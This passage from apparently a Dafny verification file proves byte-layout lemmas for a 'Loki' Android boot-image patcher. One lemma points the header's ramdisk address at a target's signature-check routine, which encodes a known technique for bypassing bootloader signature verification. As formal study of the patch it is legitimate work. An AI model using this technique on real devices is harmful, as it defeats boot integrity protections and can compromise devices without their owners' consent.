            && U32At(d, LOKI_RAMDISK_SIZE) == h.words[RAMDISK_SIZE]
            && U32At(d, LOKI_RAMDISK_ADDR) == Wrap32(h.words[KERNEL_ADDR] + Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE]))
            && d[LOKI_HEADER_END..] == data[LOKI_HEADER_END..] && d[..LOKI_HEADER] == data[..LOKI_HEADER]
  {
    hide ReadHeader, U32Bytes, U32At, Resize, BuildBytes, Align, Wrap32;
    var h := ReadHeader(data, 0);
    var a := Overwrite(data, LOKI_HEADER, LOKI_MAGIC);
    var b := PutU32(a, LOKI_RECOVERY, 0);
    var c := Overwrite(b, LOKI_BUILD, Resize(BuildBytes(tgt.build), BUILD_SIZE - 1));
    var d := PutU32(c, LOKI_KERNEL_SIZE, h.words[KERNEL_SIZE]);
    var e := PutU32(d, LOKI_RAMDISK_SIZE, h.words[RAMDISK_SIZE]);
    var w := Wrap32(h.words[KERNEL_ADDR] + Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE]));
    var g := PutU32(e, LOKI_RAMDISK_ADDR, w);
    ReadBackWord(c, LOKI_KERNEL_SIZE, h.words[KERNEL_SIZE]);
    ReadBeside(d, LOKI_RAMDISK_SIZE, h.words[RAMDISK_SIZE], LOKI_KERNEL_SIZE);
    ReadBackWord(d, LOKI_RAMDISK_SIZE, h.words[RAMDISK_SIZE]);
    ReadBeside(e, LOKI_RAMDISK_ADDR, w, LOKI_KERNEL_SIZE);
    ReadBeside(e, LOKI_RAMDISK_ADDR, w, LOKI_RAMDISK_SIZE);
    ReadBackWord(e, LOKI_RAMDISK_ADDR, w);
    BesidePatch(data, LOKI_HEADER, LOKI_MAGIC);
    BesidePatch(a, LOKI_RECOVERY, U32Bytes(0));
    BesidePatch(b, LOKI_BUILD, Resize(BuildBytes(tgt.build), BUILD_SIZE - 1));
    BesidePatch(c, LOKI_KERNEL_SIZE, U32Bytes(h.words[KERNEL_SIZE]));
    BesidePatch(d, LOKI_RAMDISK_SIZE, U32Bytes(h.words[RAMDISK_SIZE]));
    BesidePatch(e, LOKI_RAMDISK_ADDR, U32Bytes(w));
  }

  /** Slices that do not meet the patched range. */
  lemma BesidePatch(s: bytes, at: nat, patch: bytes)
    requires at + |patch| <= |s|
    ensures forall i, j :: 0 <= i <= j <= at ==> Overwrite(s, at, patch)[i..j] == s[i..j]
    ensures forall i, j :: at + |patch| <= i <= j <= |s| ==> Overwrite(s, at, patch)[i..j] == s[i..j]
    ensures forall i :: at + |patch| <= i <= |s| ==> Overwrite(s, at, patch)[i..] == s[i..]
    ensures forall j :: 0 <= j <= at ==> Overwrite(s, at, patch)[..j] == s[..j]
  {
  }

  /** The redirected words sit in the Android header, so they leave the Loki header alone. */
  lemma PatchedHeaderWords(data: bytes, tgt: LokiTarget)
    requires |data| >= LOKI_HEADER_END && tgt.checkSigs >= 16
    ensures PatchedWords(PatchedHeader(data, tgt), ReadHeader(data, 0), tgt)
    ensures PatchedHeader(data, tgt)[..|BOOT_MAGIC|] == data[..|BOOT_MAGIC|]
    ensures PatchedHeader(data, tgt)[LOKI_HEADER_END..] == data[LOKI_HEADER_END..]
  {
    hide ReadHeader, U32Bytes, U32At, Align, Wrap32, WithLokiHeader, SigOffset;
    var h := ReadHeader(data, 0);
    var d := WithLokiHeader(data, tgt);
    LokiHeaderIsBehindHeader(data, tgt);
    LokiHeaderWords(data, tgt);
    var x := Wrap32(Align(h.words[KERNEL_SIZE], h.words[PAGE_SIZE]) + h.words[RAMDISK_SIZE]);
    var y: u32 := tgt.checkSigs - SigOffset(tgt);
    var z := if tgt.lg then h.words[PAGE_SIZE] else 0;
    var a := PutU32(d, WordAt(KERNEL_SIZE), x);
    var b := PutU32(a, WordAt(RAMDISK_ADDR), y);
    var c := PutU32(b, WordAt(RAMDISK_SIZE), z);
    PutHeaderWord(d, KERNEL_SIZE, x);
    PutHeaderWord(a, RAMDISK_ADDR, y);
    PutHeaderWord(b, RAMDISK_SIZE, z);
    LokiWordsBeside(d, WordAt(KERNEL_SIZE), x);
    LokiWordsBeside(a, WordAt(RAMDISK_ADDR), y);
    LokiWordsBeside(b, WordAt(RAMDISK_SIZE), z);
    assert d[..|BOOT_MAGIC|] == d[..LOKI_HEADER][..|BOOT_MAGIC|] == data[..|BOOT_MAGIC|];
  }

  lemma LokiWordsBeside(d: bytes, at: nat, x: u32)
    requires |d| >= LOKI_HEADER_END && |BOOT_MAGIC| <= at && at + 4 <= HEADER_SIZE
    ensures var e := PutU32(d, at, x);
            && e[LOKI_HEADER..LOKI_HEADER + 4] == d[LOKI_HEADER..LOKI_HEADER + 4]
            && U32At(e, LOKI_KERNEL_SIZE) == U32At(d, LOKI_KERNEL_SIZE)
            && U32At(e, LOKI_RAMDISK_SIZE) == U32At(d, LOKI_RAMDISK_SIZE)
            && U32At(e, LOKI_RAMDISK_ADDR) == U32At(d, LOKI_RAMDISK_ADDR)
            && e[LOKI_HEADER_END..] == d[LOKI_HEADER_END..] && e[..|BOOT_MAGIC|] == d[..|BOOT_MAGIC|]
  {
    hide U32At, U32Bytes;
    BesidePatch(d, at, U32Bytes(x));
    ReadBeside(d, at, x, LOKI_KERNEL_SIZE);
    ReadBeside(d, at, x, LOKI_RAMDISK_SIZE);
    ReadBeside(d, at, x, LOKI_RAMDISK_ADDR);
  }

  /** All of it survives being followed by other bytes than in the original buffer. */
  lemma PatchedWordsInPage(d: bytes, p: nat, rest: bytes, h: Header, tgt: LokiTarget)
    requires LOKI_HEADER_END <= p <= |d| && ValidHeader(h) && PatchedWords(d, h, tgt)
    ensures PatchedWords(d[..p] + rest, h, tgt)
  {
    hide ReadHeader, U32At;
    var e := d[..p] + rest;
    SliceOfPage(d, p, rest);
    SameHeader(e, d);
    U32AtSlice(e, LOKI_KERNEL_SIZE, d, LOKI_KERNEL_SIZE);
    U32AtSlice(e, LOKI_RAMDISK_SIZE, d, LOKI_RAMDISK_SIZE);
    U32AtSlice(e, LOKI_RAMDISK_ADDR, d, LOKI_RAMDISK_ADDR);
  }

  lemma SliceOfPage(d: bytes, p: nat, rest: bytes)
    requires p <= |d|
    ensures forall i, j :: 0 <= i <= j <= p ==> (d[..p] + rest)[i..j] == d[i..j]
    ensures forall j :: 0 <= j <= p ==> (d[..p] + rest)[..j] == d[..j]
  {
  }
}
